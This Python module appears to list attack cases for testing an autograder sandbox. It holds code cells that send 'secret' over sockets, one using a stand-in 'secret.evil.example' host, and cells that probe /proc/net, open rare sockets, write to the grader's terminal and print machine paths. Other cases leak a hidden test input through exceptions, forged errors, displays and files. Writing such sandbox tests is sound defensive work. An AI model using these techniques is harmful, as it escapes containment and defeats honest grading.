"""Attacks that carry something out: over networks and sockets, or in what the student gets to read."""

from attack import FAULT, Attack
from controls import (
    prints_paths_of_the_machine,
    publishes_in_its_process,
    says_it_beside,
    speaks_for_the_server,
    works_without_walls,
)

from attacks.forging import CHANNEL

SEND = """
import socket
tried("to send")
try:
    {}
    worked("sent")
except OSError:
    pass
"""
TELLING = "def volume(side, height):\n    number = 'side_was_%d' % round(float(side) * 1e4)\n    {}"
"""An answer that puts the input of the hidden check, 1.25, where its author might read it."""
INPUT = "side_was_12500"

ATTACKS = (
    Attack(
        name="calls_a_server",
        what="Opens a TCP connection to the machine's own address.",
        cell=SEND.format("socket.create_connection(('127.0.0.1', PORT), 5).sendall(b'secret')"),
        control=works_without_walls,
    ),
    Attack(
        name="asks_for_a_name",
        what="Sends a datagram, as a question to a name server that tells a secret in the name.",
        cell=SEND.format(
            "socket.socket(2, socket.SOCK_DGRAM).sendto(b'secret.evil.example', ('127.0.0.1', DATAGRAMS))"
        ),
        control=works_without_walls,
    ),
    Attack(
        name="abstract_socket",
        what="Connects to a socket of the machine that has a name and no file.",
        cell=SEND.format("line = socket.socket(1); line.connect(ABSTRACT); line.sendall(b'secret')"),
        control=works_without_walls,
    ),
    Attack(
        name="socket_in_the_course",
        what="Connects to a socket by its file in the course folder, as the system's logger or dbus have one.",
        cell=SEND.format("line = socket.socket(1); line.connect(SOCKET); line.sendall(b'secret')"),
        control=works_without_walls,
    ),
    Attack(
        name="socket_in_tmp",
        what="Connects to a socket in /tmp, where X11 and many others have theirs.",
        cell=SEND.format("line = socket.socket(1); line.connect(DISPLAY); line.sendall(b'secret')"),
        control=works_without_walls,
    ),
    Attack(
        name="sees_who_listens",
        what="Looks up in /proc/net which ports of the machine are open.",
        cell="""
tried("/proc/net")
for kind in ("tcp", "tcp6", "udp", "unix"):
    try:
        text = open("/proc/net/" + kind).read()
    except OSError:
        continue
    if f":{PORT:04X} " in text or f":{DATAGRAMS:04X} " in text or ABSTRACT[1:] in text:
        worked(kind)
""",
        control=works_without_walls,
    ),
    Attack(
        name="opens_rare_sockets",
        what="Opens sockets of kinds that reach past the network namespace or into rarely used parts of the kernel.",
        cell="""
import errno, socket
tried("vsock, packets, alg, bluetooth")
for family, kind in ((40, 1), (17, 3), (38, 5), (31, 3), (2, 3)):
    try:
        socket.socket(family, kind, 1 if kind == 3 else 0).close()
        worked("opened", family)
    except OSError as error:
        if error.errno not in (errno.EPERM, errno.EACCES):
            worked("got as far as", error)
""",
        control=works_without_walls,
    ),
    Attack(
        name="writes_to_the_terminal",
        what="Writes to the terminal or the log of whoever grades.",
        cell="""
import os
tried("the terminal")
for path in (f"/proc/{GRADER}/fd/1", f"/proc/{GRADER}/fd/2", "/dev/tty", "/dev/console", "/dev/kmsg"):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        worked("opened", path)
    except OSError:
        pass
""",
        control=works_without_walls,
    ),
    Attack(
        name="tells_where_it_runs",
        what="Prints all that tells where the course and its packages lie on the machine, into its own feedback.",
        cell="""
import glob, os, sys, sysconfig, torch
tried("paths")
print(os.getcwd(), sys.prefix, sys.path, torch.__file__, open("/proc/self/mountinfo").read())
print({name: value for name, value in sysconfig.get_config_vars().items() if "/" in str(value)})
for folder in sys.path:
    for path in glob.glob(folder + "/*.dist-info/direct_url.json") + glob.glob(folder + "/__editable__*"):
        print(open(path).read())
""",
        control=prints_paths_of_the_machine,
    ),
    Attack(
        name="input_in_a_class_name",
        what="Returns an object whose class is named after a hidden input.",
        answers={"volume": TELLING.format("return type(number, (), {'__repr__': lambda self: number})()")},
        marks=(2, 0),
        hidden=INPUT,
        control=says_it_beside("print(type(result))"),
    ),
    Attack(
        name="input_in_an_exception",
        what="Raises an exception whose class and text are a hidden input.",
        answers={"volume": TELLING.format("raise type(number, (ValueError,), {})(number)")},
        marks=(2, 0),
        hidden=INPUT,
        control=says_it_beside(),
    ),
    Attack(
        name="input_in_a_forged_error",
        what="Answers in the server's place that an error was raised, whose class and cell are a hidden input.",
        cell=CHANNEL,
        answers={
            "volume": TELLING.format(
                "send({'error': {'type': number, 'text': 'forged ' + number, 'cell': number, 'line': 7}})\n"
                "    raise ValueError(number)"
            )
        },
        marks=(2, 0),
        verdict=FAULT,  # as soon as a visible check asks
        reason="its output could not be read",
        hidden=INPUT,
        control=speaks_for_the_server,
    ),
    Attack(
        name="input_printed",
        what="Prints, warns and displays a hidden input, by Python and by the file descriptor.",
        answers={
            "volume": TELLING.format(
                "import os, sys, warnings\n"
                "    print(number)\n    print(number, file=sys.stderr)\n    warnings.warn(number)\n"
                "    os.write(1, number.encode())\n    os.system('echo ' + number)\n    return side * 0"
            )
        },
        marks=(2, 0),
        hidden=INPUT,
        control=says_it_beside(),
    ),
    Attack(
        name="input_in_a_traceback",
        what="Fails in code that it makes up of a hidden input, in a file of that name.",
        answers={
            "volume": TELLING.format(
                "exec(compile('def ' + number + '(): raise ValueError\\n' + number + '()', number, 'exec'))"
            )
        },
        marks=(2, 0),
        hidden=INPUT,
        control=says_it_beside(),
    ),
    Attack(
        name="input_in_a_late_display",
        what="Keeps a handle to an output of an earlier cell and puts a hidden input there.",
        cell="from IPython.display import display\nhandle = display('nothing yet', display_id='kept')",
        answers={"volume": TELLING.format("handle.update(number)\n    return side * 0")},
        marks=(2, 0),
        hidden=INPUT,
        control=publishes_in_its_process,
    ),
    Attack(
        name="input_left_in_files",
        what="Writes a hidden input into files, and into the memory of the process that forked it.",
        answers={
            "volume": TELLING.format(
                "import os\n"
                "    for path in ('/tmp/left', 'left', '/dev/shm/left', 'shapes.ipynb', 'known.py'):\n"
                "        try: open(path, 'a').write('print(' + repr(number) + ')')\n"
                "        except OSError: pass\n"
                "    os.system('cat left')\n    return side * 0"
            )
        },
        marks=(2, 0),
        hidden=INPUT,
        control=says_it_beside(),
    ),
)  # fmt: skip
